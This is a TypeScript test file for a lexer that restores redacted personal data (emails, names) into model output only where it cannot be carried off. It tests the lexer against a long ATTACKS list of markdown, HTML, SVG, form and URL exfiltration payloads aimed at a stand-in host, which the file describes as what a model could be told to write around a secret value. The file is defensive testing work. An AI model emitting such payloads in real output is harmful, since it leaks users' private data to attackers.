import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { PUBLIC, type Label } from '../kernel/label.ts'
import { limits } from '../kernel/limits.ts'
import { PLACEHOLDER_CHARS, placeholderText, type Restore } from './placeholders.ts'
import { RestoreLexer } from './restore.ts'

const SECRET: Label = { level: 'restricted', compartments: ['pii'], integrity: 'trusted' }
const name = (type: string, byte: number): string =>
  placeholderText(type, new Uint8Array(32).fill(byte))
const P = name('email', 1)
const Q = name('person', 2)
const VALUES = new Map([
  [P, 'ada@example.com'],
  [Q, 'Ada "the\\first"\nLovelace 🙂'],
])
const restore: Restore = {
  maxChars: PLACEHOLDER_CHARS,
  label: SECRET,
  valueOf(placeholder) {
    const text = VALUES.get(placeholder)
    return text === undefined ? undefined : { text, label: SECRET, type: 'email' }
  },
}

function through(
  pieces: readonly string[],
  json = false,
  regains: (label: Label) => boolean = () => true,
): string {
  const lexer = new RestoreLexer(restore, regains, { json })
  let length = 0
  for (const piece of pieces) {
    length += piece.length
    expect(length - lexer.push(piece)).toBeLessThanOrEqual(HELD_MAX)
  }
  expect(lexer.settle()).toBe(length)
  const text = pieces.join('')
  let out = ''
  let from = 0
  for (let edit = lexer.edits.first; edit !== undefined; edit = lexer.edits.first) {
    out += text.slice(from, edit.start) + edit.text
    from = edit.end
    lexer.edits.take()
  }
  return out + text.slice(from)
}
const HELD_MAX = PLACEHOLDER_CHARS + limits.placeholderBehindChars

test('what comes before the scan holds back little enough', () => {
  const citation = 5
  expect(citation + HELD_MAX + limits.linkWindowChars).toBeLessThanOrEqual(128)
})

/** What a model could be told to write around a value, beyond the plainest forms. */
const ATTACKS: readonly string[] = [
  // Targets in angle brackets hold spaces and parentheses, over the end that others see.
  '![a](<https://evil.example/) {P}>)',
  '![a](<https://evil.example/ {P}>)',
  '![a](<//evil.example/\\> {P}>)',
  '![x][a]\n\n[a]: <https://evil.example/?q= {P}>',
  '![x][a]\n\n[a]:\n<https://evil.example/?q= {P}>',
  '[a](https://evil.example/\\) {P} )',
  '[a](https://evil.example/ ") {P}")',
  "[a](https://evil.example/ ') {P}')",
  '[a](https://evil.example/ ( {P}))',
  '[a](https://evil.example/\n"a {P}")',
  '[a] (https://evil.example/ {P})',
  '[a]\n(https://evil.example/ {P})',
  '[a\\](b]:/x) {P}',
  '[a\\](b]:<https://evil.example/?) {P}>',
  '[a]: /x\n"{P}"',
  '[a](https://evil.example/(((( {P}',
  '![{P}](https://evil.example/)',
  '](a![){P}](https://evil.example/)',
  '![a {P} b][c]',
  '![a [b] {P} c](https://evil.example/)',
  '![a]\\(x\\) `](<https://evil.example/ {P}>)`',
  // White space around the sign, and no quotes.
  "<img src = 'https://evil.example/?a > {P} '>",
  '<img src\n=\n"https://evil.example/?a > {P} ">',
  '<a\thref\t=\t"https://evil.example/?x > {P}">x</a>',
  '<a title = ">" href="https://evil.example/?x {P}">',
  '<a =">" href="https://evil.example/?x {P}">',
  '<a/href="https://evil.example/?x > {P}">',
  '<img src=https://evil.example/?a"b>{P}">',
  "<img alt=a'b src='https://evil.example/?a > {P} '>",
  "</p \"><img src='https://evil.example/?x > {P}'>",
  '<b title=">" {P}>',
  '<br / src="{P}">',
  "<img src='https://evil.example/?\n\n {P} '>",
  // What is no text, however it ends.
  '<script>x="</script";y="{P}"</script>',
  '<script><!--<script></script>{P}</script>',
  '<style>a{}</style >{P}',
  '<!--><img src="https://evil.example/?a > {P} ">',
  '<!-- " --><img src="https://evil.example/?a > {P} ">',
  '<![CDATA[ > {P} ]]>',
  '<?x > {P} ?>',
  '<!DOCTYPE a "> {P}">',
  '<xmp>{P}</xmp>',
  '<title>{P}</title>',
  '<template>{P}</template>',
  '<plaintext>{P}',
  '<noscript>{P}',
  '<iframe>{P}</iframe>',
  '<iframe srcdoc="x > {P}">',
  '<svg><style>{P}</style></svg>',
  '<svg><text>{P}</text></svg>',
  '<math><mtext>{P}',
  '<svg/onload="fetch(`//evil.example/`+`> {P}`)">',
  '<form action="https://evil.example"><textarea name=a>{P}</textarea></form>',
  '<form action=https://evil.example/><select name=a><option>{P}</option></select></form>',
  '<form><button name=a>{P}</button></form>',
  '<base href="https://evil.example/"> {P}',
  '<meta http-equiv=refresh content="0;//evil.example/ > {P}">',
  "<a href='{P}",
  // Addresses between what only some read.
  '\\\\evil.example\\{P}',
  '<\\\\evil.example\\a b {P}>',
  '"https://evil.example/ {P}"',
  '[[https://evil.example/ {P}]]',
  '`x <https://evil.example/ {P}>`_',
  '<https://evil.example/?q= {P}|click>',
  '[url=https://evil.example/ {P}]x[/url]',
  '[img]https://evil.example/ {P}[/img]',
  '$\\href{https://evil.example/ {P}}{x}$',
  '$\\href{ https://evil.example/ {P}}{x}$',
  '```mermaid\nclick A "https://evil.example/ {P}"\n```',
  'url( https://evil.example/ {P} )',
  '```{P}\nx\n```',
  '~~~ a {P}',
  'tel:{P}',
  'sip:{P}',
  'whatsapp:send?text={P}',
  'evil.finance/{P}',
  'еvil.рф/{P}',
  'evil.example&sol;{P}',
  'evil.example&#47;{P}',
  'https:⁄⁄evil.example⁄{P}',
]

/** `P` and `Q` stand for placeholders, `~` for what comes out in place of the first. */
const say = (text: string, json: boolean): string =>
  through([text.replaceAll('{P}', P).replaceAll('{Q}', Q)], json)
const value = 'ada@example.com'

describe('INVARIANT (restored only as text)', () => {
  test.each([
    'Write to {P}.',
    '{P}',
    '{P}, {P}; ({P}) "{P}" **{P}** `{P}` {P}: yes',
    'Ada <{P}>',
    "{P}'s mail\n{P}",
    '- {P}: {P}',
    '{P},{P},{P}',
    '[{P}](https://example.com)',
    'key={P}',
    '<b>{P}</b> a < b {P}',
    'See https://example.com/x, or {P}',
    '{P}は次の文は長い次の文は長い次の文は長い次の文は長い',
    '{P}。次の文',
    'AT&T&{P}& co',
    'a/{P}/b',
    'Ada <{P}> wrote',
    '[a](https://example.com/x_(y)?a=b "title"), {P}',
    '![a b](https://example.com/x.png) {P}',
    '<https://example.com/?a=b> {P}',
    '(see https://example.com/x) {P} "https://example.com/y" {P} [x] {P}',
    '<p>{P}</p><ul><li>{P}<br/></li></ul><br /> {P}',
    'if a < b && c <= d: {P} -> 3',
    'say "{P}" (e.g.: {P}) **Mail:** {P} `{P}`',
    '![a](/x y z\n\n{P}',
    '[a]: https://example.com/\n\n{P}',
    '<think>{P}</think> {P}',
    '| a | {P} |\n|---|---|\n| b | {P} |',
    '# {P}\n\n> {P}\n\n1. {P}\n2. [x](/y) {P}',
    'C:\\Users\\ada {P}',
  ])('is restored in: %s', (text) => {
    expect(say(text, false)).toBe(text.replaceAll('{P}', value))
  })

  test.each([
    'https://evil.example/{P}',
    'https://{P}.evil.example/',
    'https://a@{P}',
    'https://evil.example/?q=a,{P}',
    '![x](https://evil.example/?q={P})',
    '![x]({P})',
    '![x]( <{P}> )',
    '[x](/y?{P} "t")',
    '[x]: {P}\n',
    '[x]:\n{P}\n',
    '<img src="{P}">',
    '<img alt=">" src={P}>',
    "<a title='{P}'>",
    '<style>x{background:url({P})}</style>',
    '<script>f("{P}")</script>',
    'background:url("{P}")',
    '//evil.example/{P}',
    'www.evil.example/{P}',
    'evil.example/{P}',
    '{P}.evil.example/',
    '{P}@evil.example',
    '{P}://x',
    '{P}-x.evil.example',
    'data:text/plain,{P}',
    'mailto:{P}',
    'https&colon;//evil.example/{P}',
    'h\u200bttps:/\u200b/evil.example/{P}',
    '/search?q={P}',
    '<!--{P}-->',
    ...ATTACKS,
  ])('is not restored in: %s', (text) => {
    expect(say(text, false)).toBe(text.replaceAll('{P}', P))
  })

  test.each([
    P.slice(0, -1),
    P.toUpperCase(),
    P.replace('[[', '[ ['),
    `[[sp-EMAIL-${'z'.repeat(21)}]]`,
  ])('near: %s goes out unchanged', (near) => {
    for (let cut = 0; cut <= near.length; cut++)
      expect(through([`a ${near.slice(0, cut)}`, `${near.slice(cut)} b`])).toBe(`a ${near} b`)
  })

  test('restored text regains its label, or stays a placeholder', () => {
    const seen: Label[] = []
    const deny = (label: Label): boolean => seen.push(label) === 0
    expect(through([`a ${P} b`], false, deny)).toBe(`a ${P} b`)
    expect(seen).toEqual([SECRET])
    expect(join(PUBLIC)).toBe(PUBLIC)
  })
  const join = (label: Label): Label => label
})

describe('arguments', () => {
  const args = { to: P, note: `Dear ${Q},\n"hello" 🙂`, deep: JSON.stringify({ a: [Q, { b: P }] }) }
  const wanted = {
    to: value,
    note: `Dear ${VALUES.get(Q)},\n"hello" 🙂`,
    deep: JSON.stringify({ a: [VALUES.get(Q), { b: value }] }),
  }
  const deeper = { json: JSON.stringify(args), t: `he said "${Q}"` }

  test.each([
    [args, wanted],
    [deeper, { json: JSON.stringify(wanted), t: `he said "${VALUES.get(Q)}"` }],
    [
      [P, Q],
      [value, VALUES.get(Q)],
    ],
    [
      { url: `https://a.example/${P}`, b: P },
      { url: `https://a.example/${P}`, b: value },
    ],
  ])('INVARIANT (arguments stay JSON): %#, split at every position', (given, expected) => {
    for (const text of [JSON.stringify(given), JSON.stringify(given, null, 1)]) {
      expect(JSON.parse(through([text], true))).toEqual(expected)
      for (let cut = 1; cut < text.length; cut++)
        expect(JSON.parse(through([text.slice(0, cut), text.slice(cut)], true))).toEqual(expected)
      expect(JSON.parse(through(text.split(''), true))).toEqual(expected)
    }
  })
  test.each(ATTACKS)('INVARIANT (restored only as text): nor inside of a string: %s', (attack) => {
    const note = attack.replaceAll('{P}', P)
    const hidden = JSON.stringify({ note }).replaceAll('<', '\\u003C').replaceAll('(', '\\u0028')
    for (const text of [JSON.stringify({ note }), JSON.stringify([{ note }], null, 1), hidden])
      for (const args of [text, JSON.stringify({ body: text })])
        expect(JSON.parse(through([args], true))).toEqual(JSON.parse(args))
  })
  test('outside of a string nothing is written; what is no JSON is text', () => {
    expect(say('{"a": {P}}', true)).toBe(`{"a": ${P}}`)
    expect(say('mail {P} now', true)).toBe(`mail ${value} now`)
    expect(say('{P}', true)).toBe(value)
  })
})

test('INVARIANT (rewritten alike however cut): the same comes out of any pieces', () => {
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...UNITS), { maxLength: 40 }),
      fc.array(fc.nat(400), { maxLength: 30 }),
      fc.boolean(),
      (units, cuts, json) => {
        const text = units.join('')
        const at = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].toSorted(
          (a, b) => a - b,
        )
        const pieces = [0, ...at].map((from, index) => text.slice(from, at[index] ?? text.length))
        expect(through(pieces, json)).toBe(through([text], json))
      },
    ),
    { numRuns: 500 },
  )
})
const UNITS =
  '[ ] ]( ![ ` ~ \' > ; <b> <https://a> \\u003c [[sp- ( ) " \\ \\" \\n { } https: / <a > = . evil @ : 🙂 x <script </script'
    .split(' ')
    .concat(P, Q, P.slice(0, 20), ' ', '\n', '\ud83d')

describe('INVARIANT (restored only as text): of blocks, whether clients join them or not', () => {
  const blocks = (...said: readonly (readonly [number, string])[]): string => {
    const lexer = new RestoreLexer(restore, () => true, { json: false, block: said[0]?.[0] })
    let at = said[0]?.[0]
    for (const [block, text] of said) {
      if (block !== at) {
        lexer.settle(true)
        lexer.turn((at = block))
      }
      lexer.push(text.replaceAll('{P}', P))
    }
    lexer.settle()
    return lexer.edits.first === undefined ? 'kept' : 'restored'
  }
  test.each<[string, ...(readonly [number, string])[]]>([
    ['restored', [0, 'a '], [1, '{P} b']],
    ['restored', [0, '[a](/x) '], [1, 'b '], [0, '{P}']],
    ['restored', [0, 'a {P}, '], [1, 'b']],
    ['kept', [0, 'a {P}'], [1, '.evil.example/']],
    ['kept', [0, 'a {P}.'], [1, 'evil.example/']],
    ['kept', [0, '![a](<https://evil.example/'], [1, ' {P}>)']],
    ['kept', [0, '![a]'], [1, '(https://evil.example/ {P})']],
    ['kept', [0, '![a](<https://evil.example/'], [1, '\n\nb'], [0, ' {P}>)']],
    ['kept', [0, 'htt'], [1, ' a '], [0, 'ps://evil.example/{P}']],
    ['kept', [0, 'htt'], [1, 'ps://evil.example/{P}']],
    ['kept', [0, '<'], [1, 'img src="{P}">']],
    ['kept', [0, 'a'], [1, '<script>'], [2, '{P}']],
  ])('%s: %j %j %j', (wanted, ...said) => {
    expect(blocks(...said)).toBe(wanted)
  })
})

test('linear on any input', () => {
  for (const unit of [
    '[',
    '](',
    '![',
    '<a',
    '\\',
    '{"',
    '"',
    ' ',
    '[[',
    '[[sp-',
    P.slice(0, 20),
    'a',
    '<',
    '](',
    P,
    `${P}.`,
    'a.',
  ]) {
    const text = unit.repeat(Math.ceil(100_000 / unit.length))
    const began = process.cpuUsage().user
    through([text])
    through([text], true)
    expect(process.cpuUsage().user - began).toBeLessThan(4_000_000)
  }
})
